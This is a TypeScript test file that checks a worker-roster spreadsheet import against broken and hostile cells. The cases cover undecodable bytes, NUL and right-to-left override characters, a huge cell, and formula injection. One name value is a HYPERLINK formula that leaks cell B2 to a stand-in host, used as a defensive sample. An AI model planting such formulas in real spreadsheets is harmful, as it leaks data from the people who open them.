// What a careless or hostile spreadsheet does to the import, on both databases: bytes that
// do not decode, control and format characters, a NUL in one CSV cell, a huge cell, and
// formula-looking text on its way out again. Real files, real stores.
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { expect, it } from 'vitest';
import { systemActor } from '../src/auth/audit.service.js';
import { makeIdNumber } from '../src/core/id-number.js';
import { writeErrorReport } from '../src/spreadsheets/errors-report.js';
import { exportWorkers } from '../src/imports/export.service.js';
import { detectEncoding } from '../src/spreadsheets/sheet-reader.js';
import { importWorkersFile } from '../src/workers/workers.import.js';
import { describeEachDatabase } from './db.js';
import { type Cell, tempDir, WORKER_HEADER, writeXlsx } from './fixtures.js';

const id = (n: number): string => makeIdNumber('141124', '1990-05-01', 100 + n * 2);
const row = (n: number, name: string, extra: Partial<Record<'phone' | 'certificates', string>> = {}): Cell[] =>
  [n, name, id(n), extra.phone ?? '', '临县', '是', extra.certificates ?? '', '', '', ''];
const csvText = (rows: Cell[][]): string => rows.map((r) => r.map((c) => (c === null ? '' : String(c))).join(',')).join('\r\n') + '\r\n';

describeEachDatabase('import of broken cells', (ctx) => {
  const dir = tempDir('menkou-hardening-');

  const storedNames = async (): Promise<string[]> =>
    (await ctx().db.selectFrom('workers').select('name').execute()).map((r) => r.name);

  it('refuses a GB18030 cell that does not decode, naming row, field and --encoding; stores no U+FFFD', async () => {
    const head = iconv.encode(csvText([WORKER_HEADER.slice(0), row(1, '王小明'), row(2, 'XX'), row(3, '李芳')]), 'gb18030');
    // Row 2's name: 刘 followed by a byte that is no GB18030 sequence at all.
    const at = head.indexOf(Buffer.from('XX'));
    const bytes = Buffer.concat([head.subarray(0, at), iconv.encode('刘', 'gb18030'), Buffer.from([0xff]), head.subarray(at + 2)]);
    const file = path.join(dir, 'broken-gb.csv');
    fs.writeFileSync(file, bytes);
    const outcome = await importWorkersFile(ctx(), file, { actor: 'test' });
    expect({ imported: outcome.imported, refused: outcome.refused }).toEqual({ imported: 2, refused: 1 });
    const [refusal] = outcome.refusals;
    expect(refusal.rowNumber).toBe(3);
    expect(refusal.problems.map((p) => p.column)).toEqual(['姓名']);
    expect(refusal.problems[0].reason.zh).toMatch(/gb18030.*--encoding/);
    expect(refusal.problems[0].reason.en).toMatch(/do not decode as gb18030.*--encoding/);
    expect(refusal.problems[0].value).toBe('刘⟨U+FFFD⟩');
    expect((await storedNames()).filter((n) => n.includes('\ufffd'))).toEqual([]);
  });

  it('a UTF-8 file with one broken byte stays UTF-8, and only that cell is refused', async () => {
    const text = Buffer.from(csvText([WORKER_HEADER, row(4, '赵四'), row(5, 'YY'), row(6, '孙六')]), 'utf8');
    const at = text.indexOf(Buffer.from('YY'));
    const bytes = Buffer.concat([text.subarray(0, at), Buffer.from('周', 'utf8'), Buffer.from([0xc3]), text.subarray(at + 2)]);
    expect(detectEncoding(bytes)).toBe('utf-8');
    const file = path.join(dir, 'broken-utf8.csv');
    fs.writeFileSync(file, bytes);
    const outcome = await importWorkersFile(ctx(), file, { actor: 'test' });
    expect({ imported: outcome.imported, refused: outcome.refused }).toEqual({ imported: 2, refused: 1 });
    expect(outcome.refusals[0].problems[0].reason.en).toMatch(/utf-8.*--encoding/);
    expect(await storedNames()).toEqual(expect.arrayContaining(['赵四', '孙六']));
  });

  it('a NUL inside one CSV cell refuses that row, naming row and field, not the whole file', async () => {
    const file = path.join(dir, 'nul.csv');
    fs.writeFileSync(file, Buffer.from(csvText([WORKER_HEADER, row(7, '钱\u0000七'), row(8, '吴八')]), 'utf8'));
    const outcome = await importWorkersFile(ctx(), file, { actor: 'test' });
    expect({ imported: outcome.imported, refused: outcome.refused }).toEqual({ imported: 1, refused: 1 });
    expect(outcome.refusals[0]).toMatchObject({ rowNumber: 2, problems: [{ column: '姓名', reason: { en: expect.stringMatching(/control character U\+0000/) } }] });
  });

  it('refuses right-to-left overrides, other format characters and U+FFFD in .xlsx cells; quotes at most ~100 characters', async () => {
    const huge = '证'.repeat(200_000);
    const file = await writeXlsx(path.join(dir, 'format.xlsx'), [
      WORKER_HEADER,
      row(9, '郑\u202e九'),
      row(10, '冯\u200e十'),
      row(11, '陈\ufffd一'),
      row(12, '褚二', { certificates: huge }),
      row(13, '卫三'),
    ]);
    const outcome = await importWorkersFile(ctx(), file, { actor: 'test' });
    expect({ imported: outcome.imported, refused: outcome.refused }).toEqual({ imported: 1, refused: 4 });
    const [rlo, lrm, replacement, long] = outcome.refusals;
    expect(rlo.problems[0]).toMatchObject({ column: '姓名', value: '郑⟨U+202E⟩九', reason: { en: expect.stringMatching(/format character U\+202E/) } });
    expect(lrm.problems[0].reason.en).toMatch(/U\+200E/);
    expect(replacement.problems[0].reason.en).toMatch(/U\+FFFD/);
    // The value and the reason each quote the cell, clipped.
    expect(long.problems[0].column).toBe('技能证书');
    expect(long.problems[0].value.length).toBeLessThan(150);
    expect(long.problems[0].reason.zh.length + long.problems[0].reason.en.length).toBeLessThan(1000);
    expect(await storedNames()).toContain('卫三');
    const bad = (await storedNames()).filter((n) => /[\p{Cc}\p{Cf}\ufffd]/u.test(n));
    expect(bad).toEqual([]);
  });

  it('writes formula-looking names as text: the export holds no formula, the CSV error report guards them; reports are mode 600', async () => {
    const formula = '=HYPERLINK("http://e.x/?q="&B2,"点这里")';
    const file = await writeXlsx(path.join(dir, 'formula.xlsx'), [WORKER_HEADER, row(14, formula), [15, '@SUM(1+1)', 'x', '', '临县', '', '', '', '', '']]);
    const outcome = await importWorkersFile(ctx(), file, { actor: 'test' });
    expect(outcome.imported).toBe(1);

    const out = path.join(dir, 'export.xlsx');
    await exportWorkers(ctx(), systemActor('test'), { out });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    const cells: ExcelJS.Cell[] = [];
    workbook.worksheets[0].eachRow((r) => r.eachCell((c) => void cells.push(c)));
    const exported = cells.find((c) => c.text === formula);
    expect(exported?.type).toBe(ExcelJS.ValueType.String);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);

    const csv = path.join(dir, 'errors.csv');
    fs.writeFileSync(csv, 'an older, wider file', { mode: 0o644 });
    await writeErrorReport(csv, outcome, 'csv');
    const text = fs.readFileSync(csv, 'utf8');
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(text).toContain("'@SUM(1+1)");
    expect(text).not.toMatch(/(^|,)@SUM/m);
    expect(fs.statSync(csv).mode & 0o777).toBe(0o600);
    const xlsx = path.join(dir, 'errors.xlsx');
    await writeErrorReport(xlsx, outcome, 'xlsx');
    expect(fs.statSync(xlsx).mode & 0o777).toBe(0o600);
  });
});
